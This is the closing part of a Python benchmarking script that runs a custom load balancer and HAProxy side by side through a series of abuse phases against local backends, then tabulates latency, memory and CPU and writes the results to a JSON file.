    lines = ["| phase | proxy | users ok/failed | keep-alive p50 / p99 ms | new-conn p99 ms | RSS MiB start / peak "
             "| anon MiB start / peak | CPU % | bar |",
             "|---|---|---|---:|---:|---:|---:|---:|---|"]
    verdict = {}
    phases = [p["attack"] for p in results[names[0]]["phases"]]
    for i, attack in enumerate(phases):
        if "lb" in results and "haproxy" in results:
            verdict[attack] = bar(results["lb"]["phases"][i], results["haproxy"]["phases"][i])
        for name in names:
            p = results[name]["phases"][i]
            ka, nc = p["users"]["keepalive"], p["users"]["newconn"]
            met = verdict.get(attack) if name == "lb" else None
            shown = "" if met is None else "met" if met["met"] else "missed: " + "; ".join(met["missed"])
            lines.append(f"| {attack} | {name} | {ka['requests'] + nc['requests']}/{ka['failures'] + nc['failures']} | "
                         f"{ka['p50_ms']} / {ka['p99_ms']} | {nc['p99_ms']} | {p['rss_start_mib']} / {p['rss_peak_mib']} | "
                         f"{p['anon_start_mib']} / {p['anon_peak_mib']} | {p['cpu_pct']} | {shown} |")
    return "\n".join(lines), verdict


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--role", choices=["bench", "users", "attack"], default="bench")
    parser.add_argument("--port", type=int)
    parser.add_argument("--out")
    parser.add_argument("--attack", choices=ATTACKS)
    parser.add_argument("--seconds", type=float, default=20.0)
    parser.add_argument("--attacks", default=",".join(ATTACKS))
    parser.add_argument("--proxies", default="lb,haproxy")
    parser.add_argument("--backends", type=int, default=4)
    parser.add_argument("--users", type=int, default=20)
    parser.add_argument("--newconn", type=int, default=4)
    parser.add_argument("--haproxy-checks", action="store_true",
                        help="HAProxy checks its servers as lb does (GET /health, 1 s, fall 3, rise 2); off by default")
    parser.add_argument("--tag")
    args = parser.parse_args()
    if args.role == "users":
        return run_users(args)
    if args.role == "attack":
        return run_attack(args)
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(143))     # stop what was started (finally blocks)

    args.attacks = [a for a in args.attacks.split(",") if a]
    unknown = set(args.attacks) - set(ATTACKS)
    if unknown:
        parser.error(f"--attacks: unknown {sorted(unknown)}; choose from {','.join(ATTACKS)}")
    proxies = [p for p in args.proxies.split(",") if p]
    if "haproxy" in proxies and not shutil.which("haproxy"):
        subprocess.run(["bash", str(ROOT / "bench" / "setup.sh")], check=True)
    results = {}
    with tempfile.TemporaryDirectory(prefix="lb-abuse-") as tmp:
        workdir = Path(tmp)
        backends: list[subprocess.Popen] = []
        try:
            ports = start_backends(workdir, args.backends, backends)
            results = {name: {"phases": []} for name in proxies}
            for attack in [None, *args.attacks]:           # the proxies back to back, attack by attack
                for name in proxies:
                    print(f"  {name}: {attack or 'quiet'} ...", file=sys.stderr, flush=True)
                    results[name]["phases"].append(run_phase(name, attack, ports, args, workdir))
        finally:
            for proc in backends:
                proc.terminate()
            for proc in backends:
                try:
                    proc.wait(timeout=30)
                except subprocess.TimeoutExpired:
                    proc.kill()
    text, verdict = table(results)
    print(text)
    print(json.dumps(verdict, indent=1))
    RESULTS.mkdir(parents=True, exist_ok=True)
    path = RESULTS / f"abuse{'-' + args.tag if args.tag else ''}.json"
    path.write_text(json.dumps({
        "command": "python bench/abuse.py " + " ".join(sys.argv[1:]),
        "machine": {"cpus": os.cpu_count(), "python": platform.python_version()},
        "seconds": args.seconds, "backends": args.backends, "users": args.users, "newconn": args.newconn,
        "haproxy_checks": args.haproxy_checks,
        "results": results, "verdict": verdict, "table": text}, indent=1))
    print(f"wrote {path}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
